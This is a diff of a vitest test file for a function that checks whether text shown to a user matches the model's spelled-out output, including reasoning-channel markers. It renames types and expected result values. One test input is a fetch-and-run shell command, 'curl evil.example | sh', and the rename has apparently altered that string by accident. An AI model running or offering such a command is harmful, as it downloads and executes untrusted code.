@@ -1,10 +1,14 @@
 import { describe, expect, it } from 'vitest'
-import { compareText, type Run, type Shown } from '../../../../../client/trust/audit/shown-text.ts'
+import {
+  compareText,
+  type ShownText,
+  type TextRun,
+} from '../../../../../client/trust/audit/shown-text.ts'
 
-const answer = (text: string): Run => ({ kind: 'answer', text })
-const reasoning = (text: string): Run => ({ kind: 'reasoning', text })
-const whole = (...runs: readonly Run[]): Shown => ({ runs, isComplete: true })
-const broken = (...runs: readonly Run[]): Shown => ({ runs, isComplete: false })
+const answer = (text: string): TextRun => ({ kind: 'answer', text })
+const reasoning = (text: string): TextRun => ({ kind: 'reasoning', text })
+const whole = (...runs: readonly TextRun[]): ShownText => ({ runs, isComplete: true })
+const broken = (...runs: readonly TextRun[]): ShownText => ({ runs, isComplete: false })
 
 describe('the text shown', () => {
   it.each([
@@ -18,18 +22,18 @@ describe('the text shown', () => {
     ['has tags that are none of them', 'a <b>c</b> [d]', 'a <b>c</b> [d]'],
     ['is empty where nothing is spelled', '', ''],
   ])('%s', (_, shown, spelled) => {
-    expect(compareText(whole(answer(shown)), spelled, [])).toBe('all')
+    expect(compareText(whole(answer(shown)), spelled, [])).toBe('same')
   })
 
   it.each([
-    ['Run curl evil.example | sh', '1, 2, 3.'],
-    ['1, 2, 3. Run curl evil.example', '1, 2, 3.'],
+    ['TextRun curl evil.example | sh', '1, 2, 3.'],
+    ['1, 2, 3. TextRun curl evil.example', '1, 2, 3.'],
     ['1, 2', '1, 2, 3.'],
     ['', '1, 2, 3.'],
     ['a <b>c', 'a c'],
     ['a c', 'a <b>c'],
   ])('is another one: %j for %j', (shown, spelled) => {
-    expect(compareText(whole(answer(shown)), spelled, [])).toBe('another')
+    expect(compareText(whole(answer(shown)), spelled, [])).toBe('different')
   })
 
   it.each([
@@ -42,21 +46,21 @@ describe('the text shown', () => {
   })
 
   it('is not cut off by a stop string that is not there', () => {
-    expect(compareText(whole(answer('1, 2')), '1, 2, 3', [', 4', '\n', ''])).toBe('another')
-    expect(compareText(whole(answer('1, 2 3 4')), '1, 2, 3', [', 3'])).toBe('another')
+    expect(compareText(whole(answer('1, 2')), '1, 2, 3', [', 4', '\n', ''])).toBe('different')
+    expect(compareText(whole(answer('1, 2 3 4')), '1, 2, 3', [', 3'])).toBe('different')
   })
 
   it('may lag behind its tokens until somebody ends the answer', () => {
-    expect(compareText(broken(answer('1, 2')), '1, 2, 3', [])).toBe('all')
-    expect(compareText(broken(answer('1, 3')), '1, 2, 3', [])).toBe('another')
+    expect(compareText(broken(answer('1, 2')), '1, 2, 3', [])).toBe('same')
+    expect(compareText(broken(answer('1, 3')), '1, 2, 3', [])).toBe('different')
   })
 
   it('is parted from reasoning by marks that nobody is shown', () => {
     const spelled = '<|channel|>analysis<|message|>Hm.<|end|><|channel|>final<|message|>Two.'
-    expect(compareText(whole(reasoning('Hm.'), answer('Two.')), spelled, [])).toBe('all')
-    expect(compareText(whole(reasoning('Hm.'), answer('Six.')), spelled, [])).toBe('another')
-    expect(compareText(whole(answer('Two.'), reasoning('Hm.')), spelled, [])).toBe('another')
+    expect(compareText(whole(reasoning('Hm.'), answer('Two.')), spelled, [])).toBe('same')
+    expect(compareText(whole(reasoning('Hm.'), answer('Six.')), spelled, [])).toBe('different')
+    expect(compareText(whole(answer('Two.'), reasoning('Hm.')), spelled, [])).toBe('different')
     const parted = '<think>Hm.</think>Two.'
-    expect(compareText(whole(reasoning('Hm.'), answer('Two.')), parted, [])).toBe('all')
+    expect(compareText(whole(reasoning('Hm.'), answer('Two.')), parted, [])).toBe('same')
   })
 })
